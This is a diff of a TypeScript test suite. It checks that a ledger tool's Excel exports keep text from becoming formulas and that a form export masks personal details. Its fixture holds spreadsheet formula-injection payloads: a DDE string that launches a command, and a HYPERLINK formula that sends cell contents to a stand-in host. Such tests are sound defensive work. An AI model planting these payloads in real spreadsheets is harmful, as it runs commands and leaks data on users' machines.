@@ -9,7 +9,7 @@ const HOSTILE = {
   title: '=HYPERLINK("http://example.invalid/?"&A1,"点击")',
   reason: '+SUM(1,2)',
   name: '-2+3 某公司',
-  remark: '@cmd|\' /C calc\'!A0',
+  remark: "@cmd|' /C calc'!A0",
 };
 
 async function cellsOf(file: string): Promise<ExcelJS.Cell[]> {
@@ -23,7 +23,10 @@ async function cellsOf(file: string): Promise<ExcelJS.Cell[]> {
 describe('Excel exports never turn text into formulas', () => {
   it.each([
     ['track', (out: string) => ['track', '--unit', 'zjj', '--out', out, '--as-of', '2026-11-26']],
-    ['weekly', (out: string) => ['weekly', '--unit', 'zjj', '--week', '2026-06-01', '--out', out, '--as-of', '2026-11-26']],
+    [
+      'weekly',
+      (out: string) => ['weekly', '--unit', 'zjj', '--week', '2026-06-01', '--out', out, '--as-of', '2026-11-26'],
+    ],
   ] as const)('%s', async (_name, args) => {
     const repo = tempLedger({
       'zjj/ZJJ-2026-0500.yaml': itemFile('ZJJ-2026-0500', {
@@ -51,7 +54,8 @@ describe('Excel exports never turn text into formulas', () => {
       const shown = Object.values(HOSTILE).filter((v) => texts.some((t) => t.includes(v)));
       expect(shown.length, texts.join('\n')).toBeGreaterThan(0);
       for (const cell of cells) {
-        if (Object.values(HOSTILE).some((v) => String(cell.text).includes(v))) expect(cell.type).toBe(ExcelJS.ValueType.String);
+        if (Object.values(HOSTILE).some((v) => String(cell.text).includes(v)))
+          expect(cell.type).toBe(ExcelJS.ValueType.String);
       }
     } finally {
       repo.cleanup();
@@ -61,7 +65,11 @@ describe('Excel exports never turn text into formulas', () => {
 
 describe('bbcs form --mask', () => {
   it('masks the phone and a private person’s name on the registration form', async () => {
-    const repo = tempLedger({ 'zjj/ZJJ-2026-0501.yaml': itemFile('ZJJ-2026-0501', { party: { name: '张三丰', kind: '群众', phone: '13912345678' } }) });
+    const repo = tempLedger({
+      'zjj/ZJJ-2026-0501.yaml': itemFile('ZJJ-2026-0501', {
+        party: { name: '张三丰', kind: '群众', phone: '13912345678' },
+      }),
+    });
     try {
       const out = path.join(repo.dir, 'form.xlsx');
       const r = runBbcs(['form', 'ZJJ-2026-0501', '--mask', '--out', out], repo.dir);
